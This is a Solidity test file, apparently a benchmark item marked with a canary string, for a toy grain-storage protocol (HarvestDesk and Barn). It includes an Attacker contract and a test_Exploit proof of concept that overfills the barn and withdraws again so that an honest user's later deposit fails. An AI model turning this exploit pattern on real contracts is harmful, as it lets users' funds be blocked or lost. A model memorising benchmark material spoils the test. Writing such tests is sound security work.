// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

// assay-canary-7bf47d57-d66e-4125-8d6f-007dcc74bfcb

import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import "./HarvestDesk.sol";

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Crop is ERC20 {
    constructor(string memory name_) ERC20(name_, "CROP") {
        _mint(msg.sender, 1_000_000e18);
    }
}

/// Brings more than fits, and takes it home again.
contract Attacker {
    function passes(HarvestDesk desk, IERC20 crop) external {
        uint256 mine = crop.balanceOf(address(this));
        crop.approve(address(desk), mine);
        HarvestDesk.Sack[] memory sacks = new HarvestDesk.Sack[](1);
        sacks[0] = HarvestDesk.Sack(crop, mine, 0);
        desk.bring(sacks);
        Barn barn = desk.barn();
        barn.fetch(crop, barn.storedFor(crop, address(this)));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANNA = address(0xA22A);
    address private constant BELA = address(0xBE1A);

    Crop public wheat;
    Crop public rye;
    HarvestDesk public desk;
    Barn public barn;
    Attacker public tramp;

    function setUp() public {
        wheat = new Crop("Wheat");
        rye = new Crop("Rye");
        desk = new HarvestDesk(address(this));
        barn = desk.barn();
        barn.build(wheat, 1_500e18);
        barn.build(rye, 800e18);
        _endow(ANNA);
        _endow(BELA);
        vm.prank(ANNA);
        desk.bring(_harvest(1_000e18, 1_000e18, 200e18, 200e18));
        tramp = new Attacker();
        wheat.transfer(address(tramp), 501e18);
    }

    function _endow(address who) private {
        wheat.transfer(who, 5_000e18);
        rye.transfer(who, 5_000e18);
        vm.startPrank(who);
        wheat.approve(address(desk), type(uint256).max);
        rye.approve(address(desk), type(uint256).max);
        vm.stopPrank();
    }

    function _harvest(uint256 w, uint256 leastW, uint256 r, uint256 leastR)
        private
        view
        returns (HarvestDesk.Sack[] memory sacks)
    {
        sacks = new HarvestDesk.Sack[](2);
        sacks[0] = HarvestDesk.Sack(wheat, w, leastW);
        sacks[1] = HarvestDesk.Sack(rye, r, leastR);
    }

    function _sack(Crop crop, uint256 amount, uint256 least) private pure returns (HarvestDesk.Sack[] memory sacks) {
        sacks = new HarvestDesk.Sack[](1);
        sacks[0] = HarvestDesk.Sack(crop, amount, least);
    }

    function test_Regular() public {
        require(barn.room(wheat) == 500e18 && barn.storedFor(rye, ANNA) == 200e18, "stored");
        vm.prank(BELA);
        desk.bring(_harvest(300e18, 300e18, 100e18, 0));
        require(barn.storedFor(wheat, BELA) == 300e18 && barn.storedFor(rye, BELA) == 100e18, "stored too");
        vm.startPrank(ANNA);
        barn.fetch(wheat, 400e18);
        desk.bring(_sack(rye, 500e18, 500e18));
        vm.stopPrank();
        require(wheat.balanceOf(ANNA) == 4_400e18 && barn.room(wheat) == 600e18, "fetched");
        require(barn.room(rye) == 0 && barn.storedFor(rye, ANNA) == 700e18, "full");
        barn.build(rye, 100e18);
        vm.prank(BELA);
        desk.bring(_sack(rye, 130e18, 100e18));
        require(rye.balanceOf(BELA) == 4_800e18 && barn.room(rye) == 0, "the rest is at home");
        require(rye.balanceOf(address(desk)) == 0 && wheat.balanceOf(address(desk)) == 0, "nothing stays at the desk");
    }

    function test_RefusesWithoutRoom() public {
        HarvestDesk.Sack[] memory sacks = _sack(wheat, 501e18, 501e18);
        vm.expectRevert(abi.encodeWithSelector(HarvestDesk.NoRoom.selector, wheat, 500e18, 501e18));
        vm.prank(BELA);
        desk.bring(sacks);
    }

    function test_RefusesEmptySacks() public {
        HarvestDesk.Sack[] memory sacks = _sack(wheat, 0, 0);
        vm.expectRevert(abi.encodeWithSelector(HarvestDesk.Empty.selector, wheat));
        vm.prank(BELA);
        desk.bring(sacks);
    }

    function test_RefusesOthers() public {
        vm.startPrank(BELA);
        vm.expectRevert(abi.encodeWithSelector(Barn.NotAllowed.selector, BELA));
        barn.build(wheat, 1e18);
        wheat.approve(address(barn), 1e18);
        vm.expectRevert(abi.encodeWithSelector(Barn.NotAllowed.selector, BELA));
        barn.store(wheat, 1e18, BELA);
        vm.expectRevert(abi.encodeWithSelector(Barn.TooLittle.selector, 0, 1e18));
        barn.fetch(wheat, 1e18);
        vm.stopPrank();
    }

    /// What an honest farmer does, and it does not mind if some of it does not fit.
    function harvest() external {
        vm.prank(BELA);
        desk.bring(_harvest(400e18, 0, 100e18, 0));
    }

    function exploit() public {
        tramp.passes(desk, wheat);
    }

    function test_Exploit() public {
        exploit();
        (bool brought,) = address(this).call(abi.encodeCall(this.harvest, ()));
        require(!brought, "brought");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(tramp);
    }
}
